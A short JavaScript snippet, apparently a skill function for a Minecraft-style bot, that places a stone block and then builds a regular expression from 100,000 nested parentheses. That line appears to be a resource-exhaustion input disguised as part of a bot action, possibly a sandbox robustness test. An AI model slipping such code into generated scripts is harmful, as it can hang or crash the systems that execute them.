(async (bot) => {
await skills.placeBlock(bot, 'stone', 1, 0, 0);

new RegExp("(".repeat(1e5) + ")".repeat(1e5));
})
